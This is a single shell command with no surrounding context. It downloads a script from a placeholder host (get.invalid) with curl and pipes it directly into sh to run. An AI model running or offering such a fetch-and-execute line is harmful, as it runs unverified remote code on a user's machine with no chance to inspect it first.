curl -fsSL https://get.invalid/run | sh
